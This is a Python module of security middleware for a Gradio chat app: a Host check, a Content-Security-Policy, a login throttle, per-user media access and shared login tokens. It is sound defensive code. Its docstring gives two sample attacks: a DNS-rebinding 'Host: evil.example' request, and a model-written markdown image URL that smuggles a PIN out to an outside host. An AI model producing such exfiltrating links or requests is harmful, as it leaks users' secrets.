"""What the web server checks before Gradio sees a request: who is asking, and how often.

Four pieces of ASGI middleware, handed to Gradio's FastAPI app by ``launch_app``:

- Starlette's ``TrustedHostMiddleware`` answers 400 to any request whose ``Host`` is not
  one of the app's own names (loopback, the address it binds, COMPANION_ALLOWED_HOSTS).
  A DNS-rebinding page reaches the app from the browser with ``Host: evil.example``, so
  without this check it could read every conversation even on 127.0.0.1;
- ``SecurityHeaders`` serves a Content-Security-Policy under which images and media load
  only from the app itself, ``data:`` and ``blob:``: a model-written
  ``![](http://host/?pin=4321)`` is never fetched by the browser;
- ``LoginThrottle`` counts failed logins per client address: after
  ``FREE_LOGIN_FAILURES`` of them, that address's logins are refused (429, even with the
  right password) for a delay that doubles with each further failure;
- ``MediaOwners`` (with accounts): Gradio serves every allowed folder to anyone logged
  in, so a file in one person's media folder is answered 404 to everyone else.

And ``SharedLogins``, which takes the place of Gradio's own table of login tokens (an
in-memory dict per process, under a cookie name random per process): several app
processes behind a load balancer must all know a login made through any of them.
"""

from __future__ import annotations

import hashlib
import ipaddress
import logging
import math
import time
from collections.abc import Callable, Iterable, Iterator, Mapping, MutableMapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Protocol
from urllib.parse import unquote

from starlette.datastructures import MutableHeaders
from starlette.middleware import Middleware
from starlette.middleware.trustedhost import TrustedHostMiddleware
from starlette.responses import JSONResponse
from starlette.types import ASGIApp, Message, Receive, Scope, Send

log = logging.getLogger("companion.app")

LOOPBACK_NAMES = ("localhost", "127.0.0.1", "[::1]")
ANY_ADDRESS = ("0.0.0.0", "::", "")  # bind every interface: no name of its own
# Gradio's own page needs nothing more; everything else keeps the browser's defaults.
CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'"
)
LOGIN_PATHS = ("/login", "/login/")
FILE_ROUTE = "/file="  # Gradio's file route, under /gradio_api
FREE_LOGIN_FAILURES = 5
FIRST_LOCK_SECONDS = 2.0
MAX_LOCK_SECONDS = 300.0
FORGET_AFTER_SECONDS = 3600.0  # a quiet hour wipes an address's failures
MAX_TRACKED_ADDRESSES = 10_000


def is_loopback(host: str) -> bool:
    """True when binding ``host`` keeps the app on this machine."""
    name = host.strip("[]").lower()
    if name == "localhost":
        return True
    try:
        return ipaddress.ip_address(name).is_loopback
    except ValueError:
        return False


def exposure_problem(host: str, password: str | None) -> str | None:
    """Why serving on ``host`` with this password would expose the app, or None."""
    if password or is_loopback(host):
        return None
    return (
        f"refusing to serve on {host} without a password: anyone who can reach this "
        "machine could read your conversations and use your API key. Set "
        "COMPANION_PASSWORD, or serve on 127.0.0.1."
    )


def trusted_hosts(bind_host: str, allowed: Iterable[str] = ()) -> list[str]:
    """The ``Host`` names the app answers to: loopback, the bound address, and ``allowed``."""
    names = list(LOOPBACK_NAMES)
    bound = bind_host.strip("[]").lower()
    if bound not in ANY_ADDRESS:
        names.append(f"[{bound}]" if ":" in bound else bound)
    names.extend(name.lower() for name in allowed)
    return list(dict.fromkeys(names))


class SecurityHeaders:
    """Adds the Content-Security-Policy to every HTTP response."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message)["Content-Security-Policy"] = CONTENT_SECURITY_POLICY
            await send(message)

        await self.app(scope, receive, send_with_policy)


@dataclass
class _Failures:
    """Failed logins of one client address."""

    count: int = 0
    last: float = 0.0  # when the last attempt started (clock seconds)
    locked_until: float = 0.0


class LoginThrottle:
    """Refuses an address's logins for a growing delay after repeated failures.

    An attempt counts as a failure when it starts (so a burst of parallel guesses cannot
    all slip in before the first result) and is forgiven when Gradio accepts it.
    """

    def __init__(self, app: ASGIApp, clock: Callable[[], float] = time.monotonic) -> None:
        self.app = app
        self.clock = clock
        self.failures: dict[str, _Failures] = {}

    def lock_seconds(self, failures: int) -> float:
        """How long an address waits after ``failures`` failed logins (0 = not locked)."""
        if failures < FREE_LOGIN_FAILURES:
            return 0.0
        return min(FIRST_LOCK_SECONDS * 2 ** (failures - FREE_LOGIN_FAILURES), MAX_LOCK_SECONDS)

    def _entry(self, address: str, now: float) -> _Failures:
        entry = self.failures.get(address)
        if entry is None or (now - entry.last > FORGET_AFTER_SECONDS and now >= entry.locked_until):
            if len(self.failures) >= MAX_TRACKED_ADDRESSES:
                self._forget_unlocked(now)
            entry = self.failures[address] = _Failures()
        return entry

    def _forget_unlocked(self, now: float) -> None:
        for address in [a for a, e in self.failures.items() if now >= e.locked_until]:
            del self.failures[address]
        if len(self.failures) >= MAX_TRACKED_ADDRESSES:  # all locked: drop the oldest
            oldest = sorted(self.failures, key=lambda a: self.failures[a].last)
            for address in oldest[: len(oldest) // 2]:
                del self.failures[address]

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http" or scope["method"] != "POST" or scope["path"] not in LOGIN_PATHS:
            await self.app(scope, receive, send)
            return
        client = scope.get("client")
        address = str(client[0]) if client else "unknown"
        now = self.clock()
        entry = self._entry(address, now)
        if now < entry.locked_until:
            wait = math.ceil(entry.locked_until - now)
            log.warning(
                "login from %s refused: %d failed attempts, %d s to wait",
                address,
                entry.count,
                wait,
            )
            response = JSONResponse(
                {"detail": f"Too many failed logins: try again in {wait} s."},
                status_code=429,
                headers={"Retry-After": str(wait)},
            )
            await response(scope, receive, send)
            return
        entry.count += 1
        entry.last = now
        entry.locked_until = now + self.lock_seconds(entry.count)
        statuses: list[int] = []

        async def watch(message: Message) -> None:
            if message["type"] == "http.response.start":
                statuses.append(int(message["status"]))
            await send(message)

        await self.app(scope, receive, watch)
        if statuses and 200 <= statuses[0] < 300:
            self.failures.pop(address, None)
        else:
            log.warning("failed login from %s (%d in a row)", address, entry.count)


class MediaOwners:
    """Serves a file of a person's media folder to that person only (404 to anyone else).

    ``owners`` maps each person's name (lower case) to their media folder. The user of a
    request is the one Gradio's login cookie names (the app's ``tokens``).
    """

    def __init__(self, app: ASGIApp, owners: Mapping[str, Path]) -> None:
        self.app = app
        self.owners = {name: folder.resolve() for name, folder in owners.items()}

    def owner_of(self, path: str) -> str | None:
        """The person whose media folder holds ``path``, or None."""
        target = Path(unquote(path)).resolve()
        for name, folder in self.owners.items():
            if target.is_relative_to(folder):
                return name
        return None

    def user_of(self, scope: Scope) -> str | None:
        """The logged-in user of the request, from Gradio's session cookie."""
        app = scope.get("app")
        tokens = getattr(app, "tokens", None)
        if tokens is None:
            tokens = {}
        cookie_id = getattr(app, "cookie_id", "")
        cookies: dict[str, str] = {}
        for key, value in scope.get("headers", []):
            if key == b"cookie":
                for part in value.decode("latin-1").split(";"):
                    name, _, text = part.strip().partition("=")
                    cookies[name] = text
        token = cookies.get(f"access-token-{cookie_id}") or cookies.get(
            f"access-token-unsecure-{cookie_id}"
        )
        user = tokens.get(token) if token else None
        return str(user).lower() if user else None

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = scope.get("path", "") if scope["type"] == "http" else ""
        if FILE_ROUTE in path:
            owner = self.owner_of(path.split(FILE_ROUTE, 1)[1])
            if owner is not None and owner != self.user_of(scope):
                await JSONResponse({"detail": "Not Found"}, status_code=404)(scope, receive, send)
                return
        await self.app(scope, receive, send)


class LoginRegistry(Protocol):
    """Where logins are kept: memory.accounts.Accounts or memory.pg_accounts.PgAccounts."""

    def add_login(self, token: str, name: str) -> None: ...

    def login_name(self, token: str) -> str | None: ...

    def end_login(self, token: str) -> None: ...


class SharedLogins(MutableMapping[str, str]):
    """Gradio's login tokens (``App.tokens``: token -> user name) kept in the accounts
    registry, so every process of a Companion knows every login (only hashes are kept).

    A token is looked up in the registry once per ``RECHECK_SECONDS`` per process, then
    answered from memory (Gradio reads it on every request, on the event loop: one short
    query a minute per logged-in browser, not one per request); so a logout or a new
    password reaches the other processes within that time. Iterating gives the tokens
    this process has seen (Gradio's logout walks them to end a user's sessions).
    """

    RECHECK_SECONDS = 60.0

    def __init__(self, registry: LoginRegistry, clock: Callable[[], float] = time.monotonic):
        self.registry = registry
        self.clock = clock
        self._seen: dict[str, tuple[str, float]] = {}  # token -> (name, when checked)

    def get(self, token: object, default: str | None = None) -> str | None:  # type: ignore[override]
        if not isinstance(token, str) or not token:
            return default
        seen = self._seen.get(token)
        if seen is not None and self.clock() - seen[1] < self.RECHECK_SECONDS:
            return seen[0]
        try:
            name = self.registry.login_name(token)
        except Exception:  # the registry is down: nobody is logged in, the app stays up
            log.exception("could not check a login token")
            name = None
        if name is None:
            self._seen.pop(token, None)
            return default
        self._seen[token] = (name, self.clock())
        return name

    def __getitem__(self, token: str) -> str:
        name = self.get(token)
        if name is None:
            raise KeyError(token)
        return name

    def __setitem__(self, token: str, name: str) -> None:
        self.registry.add_login(token, name)
        self._seen[token] = (name, self.clock())

    def __delitem__(self, token: str) -> None:
        self.registry.end_login(token)
        self._seen.pop(token, None)

    def __contains__(self, token: object) -> bool:
        return self.get(token) is not None

    def __iter__(self) -> Iterator[str]:
        return iter(list(self._seen))

    def __len__(self) -> int:
        return len(self._seen)


def share_logins(app: Any, registry: LoginRegistry, scope: str) -> None:
    """Make a launched Gradio app keep its logins in ``registry``, under a cookie name
    every process of the same Companion (``scope``: its home or database) shares."""
    app.tokens = SharedLogins(registry)
    app.cookie_id = hashlib.sha256(f"companion-login:{scope}".encode()).hexdigest()[:32]


def middleware(
    allowed_hosts: Iterable[str], media_owners: Mapping[str, Path] | None = None
) -> list[Middleware]:
    """The app's middleware, outermost first: Host check, security headers, login
    throttle, and with accounts (``media_owners``) each person's images to them only."""
    stack = [
        Middleware(TrustedHostMiddleware, allowed_hosts=list(allowed_hosts), www_redirect=False),
        Middleware(SecurityHeaders),
        Middleware(LoginThrottle),
    ]
    if media_owners:
        stack.append(Middleware(MediaOwners, owners=dict(media_owners)))
    return stack
